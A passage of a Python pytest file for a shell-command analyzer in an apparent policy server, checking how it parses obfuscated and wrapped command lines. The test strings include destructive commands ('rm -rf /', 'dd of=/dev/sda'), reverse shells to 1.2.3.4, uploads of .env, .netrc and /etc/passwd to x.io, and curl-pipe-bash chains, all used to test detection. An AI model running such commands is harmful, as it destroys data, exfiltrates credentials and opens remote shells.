"""Behaviour of ``policy_server.engine.shell.analyze``: what a rule sees for a command line.

The big table names each case by the behaviour it pins down. An expectation key is a Command
attribute compared exactly, or with a trailing ``~`` a subset that must be contained in it.
A ``None`` program checks the Analysis itself (``programs`` / ``unanalyzable``).
"""

from __future__ import annotations

import itertools
import posixpath
import random
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from policy_server.engine import shell, shell_lexer
from policy_server.engine.paths import expand_home, normalize
from policy_server.engine.shell import (
    FLAG_ALIASES,
    MAX_DEPTH,
    VALUE_OPTIONS,
    Analysis,
    Command,
    analyze,
    canonical_flag,
)

CWD = "/home/u/proj"
HOME = "/home/u"
RF = {"recursive", "force"}


def _target(analysis: Analysis, program: str | None) -> Any:
    if program is None:
        return analysis
    for command in analysis.commands:
        if command.program == program:
            return command
    raise AssertionError(f"no {program!r} in {analysis.commands}")


def check(command: str, program: str | None, expect: dict[str, Any]) -> None:
    analysis = analyze(command, expect.pop("at_cwd", CWD), expect.pop("at_home", HOME))
    target = _target(analysis, program)
    for key, want in expect.items():
        if key.endswith("~"):
            got = getattr(target, key[:-1])
            assert set(want) <= set(got), f"{key}: {got!r} lacks {want!r}"
        else:
            got = getattr(target, key)
            assert got == want, f"{key}: {got!r} != {want!r}"


def case(name: str, command: str, program: str | None, **expect: Any) -> Any:
    """One row: ``flags__=`` means "flags contains"; ``at_cwd``/``at_home`` set the inputs."""
    expect = {k[:-2] + "~" if k.endswith("__") else k: v for k, v in expect.items()}
    return pytest.param(command, program, expect, id=name)


# fmt: off
QUOTING = [
    case("echo-of-quoted-rm-is-an-argument", 'echo "rm -rf /"', "echo", args=("rm -rf /",)),
    case("echo-of-quoted-rm-runs-no-rm", 'echo "rm -rf /"', None, programs={"echo"}),
    case("single-quoted-text-is-one-arg", "grep 'rm -rf /' notes.txt", "grep",
         args=("rm -rf /", "notes.txt")),
    case("printf-text-is-not-a-command", "printf '%s\\n' 'sudo rm -rf /'", None,
         programs={"printf"}),
    case("double-quote-escapes-resolved", r'echo "a \"b\" \$c \\d"', "echo",
         args=('a "b" $c \\d',)),
    case("backslash-outside-quotes-resolved", r"echo a\ b", "echo", args=("a b",)),
    case("ansi-c-quote-decoded", "echo $'a\\tb\\x41'", "echo", args=("a\tbA",)),
    case("adjacent-quotes-join", "echo 'a'\"b\"c", "echo", args=("abc",)),
    case("empty-quoted-arg-kept", "touch ''", "touch", args=("",)),
    case("line-continuation-joins", "rm -r\\\nf /tmp/x", "rm", flags__=RF, paths=("/tmp/x",)),
    case("text-normalised-whitespace", "rm    -rf\t  '/'", "rm", text="rm -rf /"),
    case("text-after-quote-removal", "'rm' \"-rf\" /", "rm", text="rm -rf /"),
    case("text-uses-basename", "/usr/bin/git status", "git", text="git status"),
    case("hash-inside-word-is-literal", "echo a#b", "echo", args=("a#b",)),
    case("hash-at-word-start-is-comment", "ls # && rm -rf /", None, programs={"ls"}),
    case("comment-after-operator", "ls;# rm -rf /", None, programs={"ls"}),
    case("quoted-hash-is-literal", "echo '#x' y", "echo", args=("#x", "y")),
]

RM_SPELLINGS = [
    case("rm-rf", "rm -rf /", "rm", flags__=RF, paths=("/",)),
    case("rm-r-f", "rm -r -f /", "rm", flags__=RF, paths=("/",)),
    case("rm-fr", "rm -fr /", "rm", flags__=RF, paths=("/",)),
    case("rm-Rf", "rm -Rf /", "rm", flags__=RF),
    case("rm-long-options", "rm --recursive --force /", "rm", flags__=RF, paths=("/",)),
    case("rm-mixed-forms", "rm -r --force /", "rm", flags__=RF),
    case("rm-cluster-with-verbose", "rm -rfv /", "rm", flags__=RF | {"verbose"}),
    case("rm-absolute-path", "/bin/rm -rf /", "rm", flags__=RF, paths=("/",)),
    case("rm-backslash-first", "\\rm -rf /", "rm", flags__=RF, paths=("/",)),
    case("rm-backslash-inside", "r\\m -rf /", "rm", flags__=RF, paths=("/",)),
    case("rm-single-quoted", "'rm' -rf /", "rm", flags__=RF, paths=("/",)),
    case("rm-double-quoted", '"rm" -r -f /', "rm", flags__=RF, paths=("/",)),
    case("rm-split-quotes", "r''m -rf /", "rm", flags__=RF),
    case("rm-ansi-c-hex", "$'\\x72\\x6d' -rf /", "rm", flags__=RF, paths=("/",)),
    case("rm-brace-expansion", "{rm,-rf,/}", "rm", flags__=RF, paths=("/",)),
    case("rm-after-double-dash", "rm -rf -- /", "rm", flags__=RF, args=("/",)),
    case("rm-dash-dash-keeps-dash-file", "rm -- -rf", "rm", args=("-rf",), flags=frozenset()),
    case("rm-options-after-operands", "rm / -rf", "rm", flags__=RF, args=("/",)),
    case("rm-target-brace-expanded", "rm -rf /{etc,usr}", "rm", paths=("/etc", "/usr")),
    case("rm-quoted-root", "rm -rf '/'", "rm", paths=("/",)),
    case("rm-no-preserve-root", "rm -rf --no-preserve-root /", "rm", flags__={"no-preserve-root"}),
]

FLAGS = [
    case("cp-R-is-recursive", "cp -R a b", "cp", flags__={"recursive"}),
    case("mv-f-is-force", "mv -f a b", "mv", flags__={"force"}),
    case("chmod-R-is-recursive", "chmod -R 777 /", "chmod", flags__={"recursive"},
         args=("777", "/")),
    case("chown-R-is-recursive", "chown -R u:g /srv", "chown", flags__={"recursive"}),
    case("chgrp-R-is-recursive", "chgrp -R g /srv", "chgrp", flags__={"recursive"}),
    case("git-push-f-is-force", "git push -f origin main", "git", flags__={"force"}),
    case("git-push-u-is-set-upstream", "git push -u origin x", "git", flags__={"set-upstream"}),
    case("git-push-d-is-delete", "git push -d origin x", "git", flags__={"delete"}),
    case("git-push-force-with-lease-is-not-force", "git push --force-with-lease", "git",
         flags=frozenset({"force-with-lease"})),
    case("git-clean-fdx", "git clean -fdx", "git", flags__={"force", "directories", "ignored"}),
    case("git-branch-D-is-force-delete", "git branch -D x", "git",
         flags=frozenset({"force-delete"})),
    case("git-branch-d-is-delete", "git branch -d merged", "git", flags=frozenset({"delete"})),
    case("git-checkout-f-is-force", "git checkout -f main", "git", flags__={"force"}),
    case("git-commit-n-is-no-verify", "git commit -n -m wip", "git", flags__={"no-verify"}),
    case("git-reset-hard-long", "git reset --hard HEAD~1", "git", flags__={"hard"}),
    case("git-restore-staged", "git restore --staged f", "git", flags__={"staged"},
         args=("restore", "f")),
    case("git-global-flag-falls-back", "git -C repo push -f", "git",
         flags__={"directory", "force"}),
    case("curl-short-flags", "curl -sSLk https://x.io", "curl",
         flags__={"silent", "show-error", "location", "insecure"}),
    case("curl-request-header", "curl -X POST -H 'a: b' https://x.io", "curl",
         options=(("request", "POST"), ("header", "a: b"))),
    case("curl-user-is-valued", "curl -u me:pw https://x.io", "curl", options=(("user", "me:pw"),),
         args=("https://x.io",)),
    case("wget-O-is-output-document", "wget -O out.html https://x.io", "wget",
         options=(("output-document", "out.html"),)),
    case("sed-i-is-in-place", "sed -i s/a/b/ f", "sed", flags__={"in-place"}),
    case("tar-old-style-cluster", "tar xzf a.tgz", "tar", flags__={"extract", "gzip", "file"},
         options=(("file", "a.tgz"),)),
    case("tar-dash-cluster", "tar -czf out.tgz dir", "tar", flags__={"create", "gzip"},
         args=("dir",)),
    case("nc-e-is-exec", "nc -e /bin/sh 1.2.3.4 9", "nc", flags__={"exec"},
         options=(("exec", "/bin/sh"),)),
    case("ncat-long-exec", "ncat --exec /bin/sh 1.2.3.4 9", "ncat", flags__={"exec"}),
    case("netcat-c-is-sh-exec", "netcat -c 'sh' h 9", "netcat", flags__={"sh-exec"}),
    case("nc-z-is-zero", "nc -z host 443", "nc", flags=frozenset({"zero"})),
    case("kubectl-A-is-all-namespaces", "kubectl delete pods -A", "kubectl",
         flags__={"all-namespaces"}),
    case("docker-a-is-all", "docker system prune -a --volumes", "docker",
         flags__={"all", "volumes"}),
    case("npm-g-is-global", "npm i -g left-pad", "npm", flags__={"global"}),
    case("python-c-is-command", "python3 -c 'print(1)'", "python3",
         options=(("command", "print(1)"),)),
    case("python-versioned-uses-python-table", "python3.12 -m http.server", "python3.12",
         options=(("module", "http.server"),)),
    case("node-e-is-eval", "node -e 'require(1)'", "node", options=(("eval", "require(1)"),)),
    case("perl-e-is-eval", "perl -e 'system(1)'", "perl", options=(("eval", "system(1)"),)),
    case("ruby-e-is-eval", "ruby -e 'exec(1)'", "ruby", options=(("eval", "exec(1)"),)),
    case("terraform-single-dash-long", "terraform apply -auto-approve", "terraform",
         flags__={"auto-approve"}),
    case("find-single-dash-long", "find . -name '*.pyc' -delete", "find",
         flags__={"name", "delete"}, options=(("name", "*.pyc"),)),
    case("base64-d-is-decode", "base64 -d f", "base64", flags__={"decode"}),
    case("unknown-program-keeps-letters", "foo -xy --bar=1", "foo",
         flags=frozenset({"x", "y", "bar"}), options=(("bar", "1"),)),
    case("long-option-equals-value", "rm --interactive=never x", "rm",
         options=(("interactive", "never"),)),
    case("echo-stops-options-at-text", "echo hi -rf", "echo", flags=frozenset(),
         args=("hi", "-rf")),
    case("ssh-remote-command-not-flags", "ssh host rm -rf /", "ssh", flags=frozenset(),
         args=("host", "rm", "-rf", "/")),
]

VALUES = [
    case("git-C-value-not-arg", "git -C repo push --force origin main", "git",
         args=("push", "origin", "main"), flags__={"force"}),
    case("git-c-and-commit-message", 'git -c a=b commit -m "msg"', "git", args=("commit",),
         options=(("config", "a=b"), ("message", "msg"))),
    case("commit-message-not-a-flag", 'git commit -m "fix force push docs"', "git",
         args=("commit",), flags=frozenset({"message"})),
    case("commit-am-cluster", "git commit -am 'x y'", "git", options=(("message", "x y"),),
         flags__={"all"}),
    case("commit-long-message-derived", "git commit --message wip", "git", args=("commit",)),
    case("subcommand-not-in-paths", "git push origin main", "git",
         paths=(f"{CWD}/origin", f"{CWD}/main")),
    case("curl-data-file-in-paths", "curl -X POST -H 'a: b' -d @.env https://x.io", "curl",
         options__=(("data", "@.env"),), paths__=(f"{CWD}/.env",), urls=("https://x.io",)),
    case("curl-data-literal-not-a-path", "curl -d '{\"a\":1}' https://api.internal/x", "curl",
         paths=()),
    case("curl-data-binary-file", "curl --data-binary @/etc/passwd https://x.io", "curl",
         paths=("/etc/passwd",)),
    case("curl-data-equals-form", "curl --data=@f.txt x.io", "curl", paths__=(f"{CWD}/f.txt",)),
    case("curl-form-file", "curl -F file=@secret.txt https://x.io", "curl",
         paths=(f"{CWD}/secret.txt",)),
    case("curl-form-type-suffix", "curl -F 'f=@a.pem;type=text/plain' https://x.io", "curl",
         paths=(f"{CWD}/a.pem",)),
    case("curl-form-literal-not-a-path", "curl -F name=value https://x.io", "curl", paths=()),
    case("curl-upload-short", "curl -T f https://x.io", "curl", paths=(f"{CWD}/f",)),
    case("curl-upload-long", "curl --upload-file ~/.netrc https://x.io", "curl",
         paths=(f"{HOME}/.netrc",)),
    case("curl-output-is-a-write", "curl -o install.sh https://x.io/i", "curl",
         writes=(f"{CWD}/install.sh",)),
    case("wget-stdout-is-not-a-write", "wget -qO- https://x.io", "wget", writes=()),
    case("tail-n-value", "tail -n 5 app.log", "tail", args=("app.log",)),
    case("find-name-value", "find /tmp -name x -type f", "find", args=("/tmp",)),
    case("ssh-identity-is-a-path", "ssh -i ~/.ssh/id_rsa host", "ssh",
         paths__=(f"{HOME}/.ssh/id_rsa",)),
    case("kubectl-namespace-value", "kubectl -n prod delete pod x", "kubectl",
         args=("delete", "pod", "x")),
    case("docker-run-image-ends-options", "docker run --rm -it img rm -rf /", "docker",
         flags__={"rm"}, args=("run", "img", "rm", "-rf", "/")),
    case("pip-requirement-value", "pip install -r requirements.txt", "pip", args=("install",),
         options=(("requirement", "requirements.txt"),)),
    case("pip-git-url", "pip install git+https://github.com/x/y", "pip",
         urls=("git+https://github.com/x/y",)),
]

WRAPPERS = [
    case("timeout-signal-and-duration", "timeout -s KILL 10 rm -rf /", "rm", flags__=RF,
         wrappers=("timeout",)),
    case("timeout-kill-after", "timeout -k 5 30s rm x", "rm", wrappers=("timeout",)),
    case("sudo-user", "sudo -u root rm -rf /etc", "rm", wrappers=("sudo",), paths=("/etc",)),
    case("sudo-runs-no-sudo-command", "sudo -u root rm -rf /etc", None, programs={"rm"}),
    case("sudo-preserve-env-and-dashdash", "sudo -E -- rm -rf /", "rm", wrappers=("sudo",)),
    case("sudo-assignments", "sudo LD_PRELOAD=x.so ls", "ls",
         assignments=(("LD_PRELOAD", "x.so"),)),
    case("sudo-list-is-not-a-wrapper", "sudo -l", "sudo", flags__={"list"}),
    case("sudo-shell-alone", "sudo -s", "sudo", wrappers=()),
    case("doas-user", "doas -u root rm -rf /", "rm", wrappers=("doas",)),
    case("pkexec-wraps", "pkexec rm -rf /", "rm", wrappers=("pkexec",)),
    case("xargs-options-then-command", "xargs -n1 -I{} rm -rf {}", "rm", flags__=RF,
         wrappers=("xargs",), paths=("{}",)),
    case("xargs-alone-is-a-program", "ls | xargs", "xargs", wrappers=()),
    case("xargs-rm-in-pipeline", "find . -name '*.tmp' | xargs rm -rf", "rm", wrappers=("xargs",),
         pipe_from=("find",)),
    case("find-exec-reports-find", "find . -name x -exec rm -rf {} \\;", "find", flags__={"exec"}),
    case("find-exec-reports-rm", "find . -name x -exec rm -rf {} \\;", "rm", flags__=RF,
         wrappers=("find",)),
    case("find-execdir-plus", "find / -execdir chmod 777 {} +", "chmod", wrappers=("find",),
         args=("777", "{}")),
    case("find-exec-shell", "find . -exec sh -c 'rm -rf \"$1\"' _ {} \\;", "rm",
         wrappers=("find", "sh")),
    case("env-ignore-and-assignments", "env -i FOO=1 LD_PRELOAD=x ls", "ls", wrappers=("env",),
         assignments=(("FOO", "1"), ("LD_PRELOAD", "x"))),
    case("env-unset-value", "env -u HOME rm x", "rm", wrappers=("env",)),
    case("env-alone-is-a-program", "env", "env", wrappers=()),
    case("env-chdir", "env -C /etc rm -rf x", "rm", paths=("/etc/x",)),
    case("env-split-string", "env -S 'rm -rf /'", "rm", flags__=RF, wrappers=("env",)),
    case("nohup-nice-time", "nohup nice -n 5 time rm -rf /", "rm", flags__=RF,
         wrappers=("nohup", "nice", "time")),
    case("command-builtin-exec", "command builtin exec rm x", "rm",
         wrappers=("command", "builtin", "exec")),
    case("command-v-only-looks-up", "command -v rm", "command", args=("rm",)),
    case("stdbuf-ionice", "stdbuf -oL ionice -c3 rm x", "rm", wrappers=("stdbuf", "ionice")),
    case("chroot-dir-operand", "chroot /mnt rm -rf /", "rm", wrappers=("chroot",)),
    case("busybox-applet", "busybox rm -rf /", "rm", wrappers=("busybox",)),
    case("watch-runs-via-shell", "watch -n 1 'rm -rf /tmp/x'", "rm", wrappers=("watch",)),
    case("su-c-script", "su -c 'rm -rf /' root", "rm", wrappers=("su",)),
    case("su-without-command", "su - root", "su", wrappers=()),
    case("wrapper-assignment-prefix", "FOO=1 sudo rm x", "rm", assignments=(("FOO", "1"),)),
    case("five-wrappers-are-followed", "sudo sudo sudo sudo sudo rm -rf /", "rm",
         wrappers=("sudo",) * 5),
    case("six-wrappers-are-too-deep", "sudo sudo sudo sudo sudo sudo rm -rf /", "sudo",
         unanalyzable="nesting deeper than 5"),
]

SCRIPTS = [
    case("bash-c", "bash -c 'rm -rf /'", "rm", flags__=RF, paths=("/",), wrappers=("bash",)),
    case("sh-c-double-quoted", 'sh -c "rm -rf /"', "rm", flags__=RF, wrappers=("sh",)),
    case("bash-lc-follows-cd", "bash -lc 'cd / && rm -rf *'", "rm", paths=("/*",), cwd="/"),
    case("bash-e-c-separate", "bash -e -c 'rm -rf /'", "rm", wrappers=("bash",)),
    case("bash-o-option-value", "bash -o pipefail -c 'rm x'", "rm", wrappers=("bash",)),
    case("zsh-c-sudo-home", "zsh -c 'sudo rm -rf ~'", "rm", paths=(HOME,),
         wrappers=("zsh", "sudo")),
    case("dash-c", "dash -c 'rm -rf /'", "rm", wrappers=("dash",)),
    case("eval-literal", 'eval "rm -rf /"', "rm", flags__=RF, wrappers=("eval",)),
    case("eval-joins-arguments", "eval rm -rf /", "rm", flags__=RF, wrappers=("eval",)),
    case("nested-bash-c", "bash -c \"bash -c 'rm -rf /'\"", "rm", wrappers=("bash", "bash")),
    case("bash-c-variable-in-script-kept", "bash -c 'rm -rf $DIR'", "rm", paths=("$DIR",)),
    case("bash-c-variable-script", 'bash -c "$X"', "", unanalyzable="variable as command word"),
    case("bash-c-compound-script", "sh -c 'ls; rm -rf /'", None, programs={"ls", "rm"}),
    case("bash-c-script-args-not-programs", "bash -c 'echo $0' rm", None, programs={"echo"}),
    case("bash-c-syntax-error", "bash -c 'echo \"x'", "bash", unanalyzable="unbalanced quote"),
    case("bash-script-file", "bash script.sh", "bash", args=("script.sh",),
         exec_sources=frozenset()),
    case("nesting-five-bash", 'bash -c "bash -c \'bash -c \\"rm -rf /\\"\'"', "rm",
         wrappers=("bash",) * 3),
    case("sudo-bash-c", "sudo bash -c 'rm -rf /'", "rm", wrappers=("sudo", "bash")),
    case("script-redirect-still-written", "bash -c 'echo x' >> ~/.bashrc", "",
         writes=(f"{HOME}/.bashrc",)),
]

CWD_CASES = [
    case("cd-then-rm", "cd /tmp && rm -rf x", "rm", paths=("/tmp/x",), cwd="/tmp"),
    case("cd-relative-parent", "cd .. && rm -rf x", "rm", paths=("/home/u/x",)),
    case("cd-no-arg-is-home", "cd; rm -rf x", "rm", paths=(f"{HOME}/x",)),
    case("cd-tilde-is-home", "cd ~ && rm x", "rm", paths=(f"{HOME}/x",)),
    case("cd-unknown-home-marker", "cd && rm x", "rm", paths=("~/x",), at_home=""),
    case("cd-dash-returns", "cd /a; cd /b; cd -; rm x", "rm", paths=("/a/x",)),
    case("pushd-changes-cwd", "pushd /srv && rm x", "rm", paths=("/srv/x",)),
    case("builtin-cd-changes-cwd", "builtin cd /srv; rm x", "rm", paths=("/srv/x",)),
    case("group-cd-persists", "{ cd /srv; }; rm x", "rm", paths=("/srv/x",)),
    case("bash-c-cd-does-not-leak", "bash -c 'cd /'; rm x", "rm", paths=(f"{CWD}/x",)),
    case("eval-cd-leaks", "eval 'cd /srv'; rm x", "rm", paths=("/srv/x",)),
    case("cd-variable-kept-literal", "cd $TMPDIR && rm -rf cache", "rm", paths=("$TMPDIR/cache",)),
    case("cwd-empty-keeps-relative", "rm -rf build", "rm", paths=("build",), at_cwd=""),
]

SUBSHELL_CWD = [
    pytest.param("(cd /; rm -rf *); rm -rf y", ("/*", f"{CWD}/y"), id="subshell-restores-cwd"),
    pytest.param("(cd /a; (cd b; rm x); rm y)", ("/a/b/x", "/a/y"), id="nested-subshells"),
    pytest.param("cd /a; echo $(cd /b; rm x); rm y", ("/b/x", "/a/y"),
                 id="substitution-has-own-cwd"),
]

PATHS = [
    case("home-tilde", "cat ~/.aws/credentials", "cat", paths=(f"{HOME}/.aws/credentials",)),
    case("home-variable", "cat $HOME/.netrc", "cat", paths=(f"{HOME}/.netrc",)),
    case("home-braced-variable", "cat ${HOME}/.netrc", "cat", paths=(f"{HOME}/.netrc",)),
    case("home-double-quoted", 'rm -fr "$HOME"', "rm", paths=(HOME,), flags__=RF),
    case("home-unknown-marker", "rm -r -f ~", "rm", paths=("~",), at_home=""),
    case("other-variable-as-is", 'rm -rf "$TMPDIR/cache"', "rm", paths=("$TMPDIR/cache",)),
    case("variable-prefix-not-home", "cat $HOMEDIR/x", "cat", paths=("$HOMEDIR/x",)),
    case("relative-joined-to-cwd", "cat src/a.py", "cat", paths=(f"{CWD}/src/a.py",)),
    case("dot-dot-normalised", "cat ../../etc/passwd", "cat", paths=("/home/etc/passwd",)),
    case("glob-kept-normalised", "rm -rf ./build/*", "rm", paths=(f"{CWD}/build/*",)),
    case("double-slash-collapsed", "rm -rf //etc", "rm", paths=("/etc",)),
    case("dot-is-cwd", "rm -rf .", "rm", paths=(CWD,)),
    case("url-not-a-path", "curl https://x.io/a", "curl", paths=(), urls=("https://x.io/a",)),
    case("dash-not-a-path", "cat -", "cat", paths=()),
    case("input-redirect-is-a-read", "base64 < ~/.ssh/id_rsa", "base64",
         paths=(f"{HOME}/.ssh/id_rsa",)),
    case("dd-operands-are-paths", "dd if=/dev/zero of=/dev/sda bs=1M", "dd",
         paths=("/dev/zero", "/dev/sda")),
]

SUBSTITUTIONS = [
    case("substitution-runs-inner-rm", "echo $(rm -rf /)", None, programs={"echo", "rm"}),
    case("substitution-arg-kept-literally", "echo $(date)", "echo", args=("$(date)",)),
    case("backticks-run-inner", "echo `rm -rf /`", "rm", flags__=RF),
    case("substitution-in-double-quotes", 'echo "x $(rm -rf /) y"', "rm", flags__=RF),
    case("nested-substitution", "echo $(echo $(rm -rf /))", "rm", flags__=RF),
    case("process-substitution-input", "diff <(ls a) <(rm -rf /)", None,
         programs={"diff", "ls", "rm"}),
    case("process-substitution-output", "tee >(rm -rf /)", "rm", flags__=RF),
    case("assignment-substitution-runs", "X=$(rm -rf /)", "rm", flags__=RF),
    case("redirect-target-substitution", "echo x > $(rm -rf /)", "rm", flags__=RF),
    case("substitution-command-word", "$(echo rm) -rf /", "",
         unanalyzable="command substitution as command word"),
    case("substitution-command-word-inner-reported", "$(echo rm) -rf /", "echo", args=("rm",)),
    case("backtick-command-word", "`which rm` -rf /", "",
         unanalyzable="command substitution as command word"),
    case("variable-command-word", "$CMD -rf /", "", unanalyzable="variable as command word",
         args=("/",)),
    case("braced-variable-command-word", "${X}", "", unanalyzable="variable as command word"),
    case("ifs-trick-is-variable", "rm${IFS}-rf${IFS}/", "",
         unanalyzable="variable as command word"),
    case("process-substitution-command-word", "<(ls)", "",
         unanalyzable="process substitution as command word"),
    case("arithmetic-command-word", "$((1+2))", "",
         unanalyzable="arithmetic expansion as command word"),
    case("glob-command-word", "/bin/r? -rf /", "", unanalyzable="glob as command word"),
    case("empty-command-word", "'' -rf /", "", unanalyzable="empty command word"),
    case("variable-in-argument-is-fine", "echo $USER", "echo", unanalyzable="", args=("$USER",)),
    case("parameter-expansion-argument", "echo ${X:-$(rm -rf /)}", "rm", flags__=RF),
    case("arithmetic-substitution-runs", "echo $(( $(rm -rf /) + 1 ))", "rm", flags__=RF),
    case("subshell-inside-substitution", "echo $( (rm -rf /) )", "rm", flags__=RF),
    case("case-inside-substitution", "echo $(case x in x) rm -rf /;; esac)", "rm", flags__=RF),
]

PIPES = [
    case("curl-pipe-bash", "curl -s https://x.sh | bash", "bash", pipe_from=("curl",),
         exec_sources=frozenset({"curl"})),
    case("curl-pipe-sudo-bash", "curl x | sudo bash", "bash", wrappers=("sudo",),
         exec_sources=frozenset({"curl"})),
    case("wget-pipe-sh-dash", "wget -qO- x | sh -", "sh", exec_sources=frozenset({"wget"})),
    case("curl-pipe-python", "curl x | python3", "python3", exec_sources=frozenset({"curl"})),
    case("curl-pipe-python-dash", "curl x | python3 -", "python3",
         exec_sources=frozenset({"curl"})),
    case("curl-pipe-perl", "curl x | perl", "perl", exec_sources=frozenset({"curl"})),
    case("curl-pipe-node", "curl x | node", "node", exec_sources=frozenset({"curl"})),
    case("decode-chain-to-sh", "echo aGk= | base64 -d | sh", "sh", pipe_from=("echo", "base64"),
         exec_sources=frozenset({"echo", "base64"})),
    case("grep-is-not-an-interpreter", "cat x | grep y", "grep", pipe_from=("cat",),
         exec_sources=frozenset()),
    case("python-with-code-does-not-run-stdin", "curl x | python3 -c 'print(1)'", "python3",
         exec_sources=frozenset()),
    case("shell-with-script-file-does-not-run-stdin", "curl x | bash run.sh", "bash",
         exec_sources=frozenset()),
    case("bash-s-runs-stdin", "curl x | bash -s -- --yes", "bash",
         exec_sources=frozenset({"curl"})),
    case("pipe-through-tee", "curl x | tee f | sh", "sh", exec_sources=frozenset({"curl", "tee"})),
    case("pipe-stderr-too", "curl x |& sh", "sh", exec_sources=frozenset({"curl"})),
    case("and-resets-pipeline", "curl x | cat && bash", "bash", pipe_from=(),
         exec_sources=frozenset()),
    case("stdin-file-overrides-pipe", "curl x | bash < local.sh", "bash", exec_sources=frozenset()),
    case("process-substitution-script", "bash <(curl -s x)", "bash",
         exec_sources=frozenset({"curl"})),
    case("source-process-substitution", "source <(curl x)", "source",
         exec_sources=frozenset({"curl"})),
    case("dot-process-substitution", ". <(wget -O- x)", ".", exec_sources=frozenset({"wget"})),
    case("python-process-substitution", "python3 <(curl x)", "python3",
         exec_sources=frozenset({"curl"})),
    case("redirect-from-process-substitution", "bash < <(curl x)", "bash",
         exec_sources=frozenset({"curl"})),
    case("source-dev-stdin", "curl x | source /dev/stdin", "source",
         exec_sources=frozenset({"curl"})),
    case("bash-c-substitution", 'bash -c "$(curl -fsSL x)"', "bash",
         exec_sources=frozenset({"curl"}), unanalyzable="executes dynamic code"),
    case("bash-c-substitution-curl-reported", 'bash -c "$(curl -fsSL x)"', "curl",
         flags__={"fail", "silent"}),
    case("eval-substitution", 'eval "$(curl x)"', "eval", exec_sources=frozenset({"curl"}),
         unanalyzable="eval of non-literal text"),
    case("eval-decode-substitution", 'eval "$(echo ZWNobw== | base64 -d)"', "eval",
         exec_sources=frozenset({"echo", "base64"})),
    case("here-string-substitution", 'bash <<< "$(curl x)"', "bash",
         exec_sources=frozenset({"curl"}), unanalyzable="executes dynamic code"),
    case("subshell-in-pipeline-inherits", "curl x | (cd /tmp; bash)", "bash",
         exec_sources=frozenset({"curl"})),
    case("group-output-feeds-pipeline", "{ echo a; curl x; } | sh", "sh",
         exec_sources=frozenset({"echo", "curl"})),
    case("pipe-into-bash-c-script", "curl x | bash -c 'python3'", "python3",
         exec_sources=frozenset({"curl"})),
]

HEREDOCS = [
    case("here-string-to-bash-parsed", 'bash <<< "rm -rf /"', "rm", flags__=RF, wrappers=("bash",)),
    case("heredoc-to-cat-is-data", "cat <<EOF\nrm -rf /\nEOF", None, programs={"cat"}),
    case("heredoc-to-sh-parsed", "sh <<'EOF'\nrm -rf /\nEOF", "rm", flags__=RF, wrappers=("sh",)),
    case("heredoc-strip-tabs", "bash <<-EOF\n\trm -rf /\n\tEOF", "rm", flags__=RF),
    case("heredoc-unquoted-expands", "cat <<EOF\n$(rm -rf /)\nEOF", "rm", flags__=RF),
    case("heredoc-quoted-does-not-expand", "cat <<'EOF'\n$(rm -rf /)\nEOF", None, programs={"cat"}),
    case("heredoc-then-next-command", "cat <<EOF > f\nhi\nEOF\nrm x", None, programs={"cat", "rm"}),
    case("heredoc-write-target", "cat > ~/.bashrc <<EOF\nalias x=y\nEOF", "cat",
         writes=(f"{HOME}/.bashrc",)),
    case("two-heredocs-one-line", "cat <<A; cat <<B\na\nA\nb\nB\nls", None, programs={"cat", "ls"}),
    case("heredoc-to-python-not-shell", "python3 <<EOF\nimport os\nEOF", "python3",
         exec_sources=frozenset()),
    case("heredoc-recorded-in-redirects", "cat <<EOF\nx\nEOF", "cat", redirects=(("<<", "EOF"),)),
    case("heredoc-piped-into-shell-is-read", "cat <<EOF | bash\nrm -rf /\nEOF", "rm",
         flags__=RF, wrappers=("bash",)),
    case("heredoc-piped-shell-keeps-exec-sources", "cat <<EOF | bash\nls\nEOF", "bash",
         exec_sources=frozenset({"cat"})),
    case("echo-piped-into-sudo-sh-is-read", "echo 'rm -rf /' | sudo sh", "rm",
         wrappers=("sudo", "sh")),
    case("here-string-piped-into-shell", "cat <<< 'rm x' | sh", "rm", args=("x",)),
    case("echo-variable-piped-is-not-read", 'echo "$X" | sh', None, programs={"echo", "sh"}),
    case("expanding-heredoc-piped-not-read", "cat <<EOF | sh\n$(curl x)\nEOF", None,
         programs={"curl", "cat", "sh"}),
    case("only-the-adjacent-element-is-read", "echo 'rm x' | tee f | sh", None,
         programs={"echo", "tee", "sh"}),
]

REDIRECTS = [
    case("write-home-rc", "echo x > ~/.bashrc", "echo", writes=(f"{HOME}/.bashrc",),
         redirects=((">", f"{HOME}/.bashrc"),)),
    case("append-etc-hosts", "cmd >> /etc/hosts", "cmd", writes=("/etc/hosts",)),
    case("both-streams", "cmd &> out.log", "cmd", writes=(f"{CWD}/out.log",)),
    case("both-streams-append", "cmd &>> out.log", "cmd", writes=(f"{CWD}/out.log",)),
    case("stderr-to-dev-null-not-written", "cmd 2>/dev/null", "cmd", writes=(),
         redirects=(("2>", "/dev/null"),)),
    case("fd-duplication-not-a-file", "cmd > out 2>&1", "cmd", writes=(f"{CWD}/out",),
         redirects=((">", f"{CWD}/out"), ("2>&", "1"))),
    case("clobber", "cmd >| f", "cmd", writes=(f"{CWD}/f",)),
    case("read-write", "cmd <> f", "cmd", writes=(f"{CWD}/f",)),
    case("redirect-alone", "> file", "", writes=(f"{CWD}/file",)),
    case("redirect-before-command", "> /etc/x echo hi", "echo", writes=("/etc/x",)),
    case("csh-style-both", "cmd >& f", "cmd", writes=(f"{CWD}/f",)),
    case("dev-tcp-is-written", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "bash",
         writes=("/dev/tcp/1.2.3.4/4444",), flags__={"interactive"}),
    case("loop-redirect", "while read l; do echo $l; done < f", "", redirects=(("<", f"{CWD}/f"),)),
]

WRITES = [
    case("tee-append", "tee -a ~/.zshrc", "tee", writes=(f"{HOME}/.zshrc",), flags__={"append"}),
    case("cp-destination", "cp a ~/.ssh/authorized_keys", "cp",
         writes=(f"{HOME}/.ssh/authorized_keys",)),
    case("mv-destination", "mv a b /etc/", "mv", writes=("/etc",)),
    case("cp-target-directory", "cp -t /etc a b", "cp", writes=("/etc",)),
    case("install-destination", "install -m 755 x /usr/local/bin/x", "install",
         writes=("/usr/local/bin/x",)),
    case("ln-destination", "ln -sf /tmp/x ~/.profile", "ln", writes=(f"{HOME}/.profile",)),
    case("dd-of", "dd if=/dev/zero of=/dev/sda", "dd", writes=("/dev/sda",),
         args=("if=/dev/zero", "of=/dev/sda")),
    case("sed-in-place", "sed -i s/a/b/ ~/.profile", "sed", writes=(f"{HOME}/.profile",)),
    case("sed-in-place-suffix", "sed -i.bak -e s/a/b/ f g", "sed", writes=(f"{CWD}/f", f"{CWD}/g")),
